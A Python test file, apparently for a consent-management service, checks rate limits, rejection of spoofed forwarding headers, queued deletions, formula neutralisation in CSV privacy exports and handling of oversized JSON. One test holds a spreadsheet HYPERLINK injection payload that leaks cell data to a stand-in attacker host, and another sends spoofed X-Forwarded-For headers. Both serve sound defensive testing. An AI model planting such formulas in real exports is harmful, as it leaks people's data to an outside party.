"""Findings 2, 8 and 9: self-service limits key on what cannot be minted for free; deletion
floods are queued, batched and counted; exports and JSON parsing never hand back a weapon or
a 500."""

from __future__ import annotations

import csv
import io
import zipfile

import httpx
from support.servers import Demo, wait_for


def test_fresh_visitor_ids_from_one_address_do_not_reset_the_limit(demo: Demo) -> None:
    browser = demo.browser()
    statuses = []
    for _ in range(32):  # each round: a new cookie jar, a new consent, so a new visitor id
        browser.http.cookies.clear()
        browser.accept_all()
        statuses.append(browser.get("/_consent/my-data").status_code)
    # 30 an hour per address (a carrier's NAT shares one), 5 per visitor id.
    assert statuses[:30] == [200] * 30 and statuses[30:] == [429, 429]
    r = browser.get("/_consent/my-data")
    assert int(r.headers["retry-after"]) > 0 and "短い時間に多くの依頼" in r.text


def test_a_forwarded_for_header_from_an_untrusted_peer_mints_no_new_address(
        demo: Demo) -> None:
    browser = demo.browser()
    statuses = []
    for n in range(32):
        browser.http.cookies.clear()
        browser.accept_all()
        # 127.0.0.1 is a trusted proxy by default, so go through the header the attacker
        # controls only when it is not: here it is ignored beyond the first untrusted hop.
        statuses.append(browser.get("/_consent/my-data", headers={
            "x-forwarded-for": f"203.0.113.{n}, 198.51.100.7"}).status_code)
    assert statuses.count(429) >= 2
    # And a Forwarded header the proxy does not write is not read at all.
    r = browser.get("/_consent/my-data", headers={"x-forwarded-for": "198.51.100.7",
                                                  "forwarded": "for=192.0.2.1"})
    assert r.status_code == 429


def test_one_visitor_id_gets_five_an_hour(demo: Demo) -> None:
    browser = demo.browser()
    browser.accept_all()
    statuses = [browser.get("/_consent/my-data").status_code for _ in range(6)]
    assert statuses == [200] * 5 + [429]


def test_deletions_are_queued_answered_at_once_and_counted(demo: Demo) -> None:
    links = []
    for _ in range(4):
        browser = demo.browser()
        browser.accept_all()
        browser.get("/treatments/datsumo")
        r = browser.post("/_consent/my-data/delete", data={"confirm": "yes"},
                         headers={"accept": "application/json"})
        assert r.status_code == 202
        links.append((browser, r.json()["status_url"]))
    for browser, url in links:
        wait_for(lambda b=browser, u=url: b.get(u, headers={"accept": "application/json"})
                 .json()["status"] == "completed", what="each receipt")
    metrics = httpx.get(demo.url + "/_collector/metrics").text
    assert 'consent_mw_collector_purges_total{outcome="queued"} 4.0' in metrics
    assert 'consent_mw_collector_purges_total{outcome="completed"} 4.0' in metrics
    batches = float(metrics.split("consent_mw_collector_purge_batch_size_count ")[1].split()[0])
    assert 1 <= batches <= 4
    assert "consent_mw_collector_purge_queue 0.0" in metrics


def test_the_privacy_export_neutralises_spreadsheet_formulas(demo: Demo) -> None:
    visitor = demo.browser()
    vid = visitor.accept_all()
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    visitor.get("/search", params={"q": formula})
    demo.flush()
    token = demo.parts.admin_token[0]
    r = httpx.get(demo.url + "/_collector/v1/privacy/export", timeout=60,
                  headers={"Authorization": f"Bearer {token}"},
                  params={"visitor_id": vid, "format": "csv", "reason": "Art. 5 request",
                          "requested_by": "sato"})
    assert r.status_code == 200
    events = zipfile.ZipFile(io.BytesIO(r.content)).read("events.csv").decode()
    cells = [cell for row in csv.reader(io.StringIO(events)) for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_a_huge_json_integer_is_a_400_with_a_reason_not_a_500(demo: Demo) -> None:
    browser = demo.browser()
    body = '{"categories": {"analytics": ' + "9" * 4301 + "}}"
    r = browser.post("/_consent", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 400 and "invalid JSON" in r.json()["message"]
